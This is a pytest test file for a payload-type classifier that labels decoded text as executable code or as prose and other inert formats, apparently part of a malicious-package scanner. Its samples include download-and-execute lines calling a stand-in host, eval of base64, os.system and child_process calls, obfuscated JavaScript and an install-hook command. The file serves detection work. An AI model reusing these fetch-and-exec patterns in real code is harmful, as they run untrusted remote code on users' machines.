"""What a decoded text is: code of our languages, or something to be read."""

import pytest

from pratique.analysis.facts import PayloadKind
from pratique.analysis.languages.payload_text import is_python, kind_of

CODE = [
    "require('child_process').exec('marker')",
    "eval(atob('bWFya2Vy'))",
    "const a = require('os'); console.log(a.hostname())",
    "(function(){var s=new XMLHttpRequest();s.open('GET','http://payload.invalid');s.send()})()",
    "fetch('http://payload.invalid').then(r => r.text()).then(t => { let x = t; return x })",
    "var _0x1a2b=['log'];(function(_0x3c,_0x4d){return _0x3c[_0x4d]})(_0x1a2b,0x0);",
    "import('node:fs').then(fs => fs.writeFileSync('marker', ''))",
    "export default async function run() { await go(); return 1; }",
    "import os\nos.system('marker')",
    "import urllib.request as u;exec(u.urlopen('http://payload.invalid').read())",
    "from marker import *",
    "__import__('os').system('marker')",
    "exec(bytes([112, 114]))",
    "def run(a):\n    return a + 1\n\nrun(2)\n",
    "import socket\nprint 'marker'\ntry:\n    s = socket.socket()\nexcept Exception, e:\n    pass\n",
    "require 'net/http'\nNet::HTTP.get(URI('http://payload.invalid')).each do |line|\n  puts line\nend\n",
    "class Marker < Gem::Installer\n  def install\n    system('marker')\n  end\nend\n",
    "#!/usr/bin/env node\nmarker\n",
    "#!/usr/bin/python3 -u\nmarker\n",
]
PROSE = [
    "The function returns a new object, and eval is never called with what a user gave.",
    'Permission is hereby granted, free of charge, to any person obtaining a copy of this software (the "Software").',
    "import of a module failed; return to the previous page (or try again).",
    "Cannot find module; use require('x') instead of import x from 'x'",
    "for the (rare) case in which nothing is known",
    "<!doctype html><html><head><script>var a = require('x'); eval(a)</script></head></html>",
    "<svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0'/></svg>",
    ".a { color: rgba(0, 0, 0, .5); transform: translate(10px, 20px); background: url(x.png) } .b:not(.c) { top: 0 }",
    '{"name": "marker", "scripts": {"test": "function"}, "list": [1, 2, 3]}',
    '[1, 2, [3, 4], {"a": null}]',
    "SELECT name, count(*) FROM packages WHERE id IN (1, 2) GROUP BY name; DROP TABLE x;",
    "create or replace function f() returns trigger as $$ begin if new.x then return new; end if; end $$",
    "precision mediump float;\nuniform vec4 color;\nvoid main() {\n  if (color.a == 0.0) { return; }\n  gl_FragColor = color;\n}",
    "fn main() -> vec4<f32> {\n  let y = 1.0;\n  var x = y;\n  if (x > 1.0) { return vec4(x); }\n}",
    '#include <stdio.h>\nint main(void) { for (int i = 0; i < 3; i++) { printf("x"); } return 0; }',
    "<% if (user) { %><h2><%= user.name %></h2><% } %>",
    "{{#if user}} {{user.name}} {{else}} {{#each list}} {{this}} {{/each}} {{/if}}",
    "^(?:[a-z0-9!#$%&'*+/=?^_`{|}~-]+(?:\\.[a-z0-9]+)*)@(?:[a-z0-9]+\\.)+[a-z]{2,}$",
    "rgba(0, 0, 0)",
    "max(id), min(id)",
    "a, b, c = 1, 2, 3",
    "# Marker\n\nUse it so:\n\n```js\nconst a = require('marker')\nmodule.exports = a\n```\n",
    "2024-01-01T00:00:00Z\t1\t2\t3",
    "bWFya2VyIG1hcmtlciBtYXJrZXIgbWFya2VyIG1hcmtlcg==",
]


@pytest.mark.parametrize("text", CODE)
def test_code_is_code(text: str) -> None:
    assert PayloadKind.CODE == kind_of(text)


@pytest.mark.parametrize("text", PROSE)
def test_what_is_read_and_not_run_is_nothing(text: str) -> None:
    assert kind_of(text) is None


def test_a_comment_of_prose_hides_no_code() -> None:
    prose = "/* " + "This is a licence that goes on and on.\n" * 50 + "<% {{#if */\n"

    assert PayloadKind.CODE == kind_of(prose + "var m = require('marker'); eval(m.x)")


def test_a_page_with_a_script_of_windows_is_a_script() -> None:
    assert PayloadKind.SCRIPT == kind_of("<html><hta:application id=x></html>")


@pytest.mark.parametrize(
    ("python", "text"), [(True, "import x"), (True, "exec(x)"), (False, "x(1)"), (False, "x")]
)
def test_python_is_told_by_what_it_does(text: str, *, python: bool) -> None:
    assert python == is_python(text)
